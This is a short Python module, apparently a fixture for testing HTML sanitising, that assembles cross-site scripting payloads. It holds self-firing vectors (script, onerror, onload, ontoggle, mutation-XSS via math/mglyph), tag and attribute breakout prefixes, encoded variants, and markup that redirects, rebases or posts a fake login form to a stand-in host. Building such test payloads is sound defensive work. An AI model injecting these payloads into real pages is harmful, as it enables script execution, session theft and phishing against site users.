"""Markup that would do something if a page took it for its own: vectors that act by themselves, behind ways out of where a text may stand."""

from __future__ import annotations

ALERT = "alert('ran')"

VECTORS = (
    f"<script>{ALERT}</script>",
    f'<img src=x onerror="{ALERT}">',
    f"<svg onload={ALERT}></svg>",
    f'<svg><animate onbegin="{ALERT}" attributeName=x dur=1s></svg>',
    f"<details open ontoggle={ALERT}>x</details>",
    f"<input autofocus onfocus={ALERT}>",
    f"<video><source onerror={ALERT}></video>",
    f'<iframe srcdoc="<script>parent.{ALERT}</script>"></iframe>',
    f'<style>@keyframes x{{}}</style><b style="animation-name:x;animation-duration:1s" onanimationstart="{ALERT}">x</b>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={ALERT}&gt;"><img src onerror={ALERT}>',
)
WAYS_OUT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "--><br>",
    "</mark></p>",
    "</option></select>",
)
# Inside an attribute, in a link, or in what some template engine or second decoding would make of it.
OTHERS = (
    f'" autofocus onfocus="{ALERT}" x="',
    f"' autofocus onfocus='{ALERT}' x='",
    f"javascript:{ALERT}",
    f"&lt;script&gt;{ALERT}&lt;/script&gt;",
    f"\uff1cscript\uff1e{ALERT}\uff1c/script\uff1e",
    f"{{{{ ''|safe }}}}<script>{ALERT}</script>{{% endautoescape %}}",
    '<meta http-equiv="refresh" content="0;url=http://elsewhere.example/">',
    '<base href="http://elsewhere.example/">',
    '<link rel="stylesheet" href="http://elsewhere.example/a.css">',
    '<form action="http://elsewhere.example/"><button>Log in</button></form>',
)
PAYLOADS = tuple(way + vector for vector in VECTORS for way in WAYS_OUT) + OTHERS
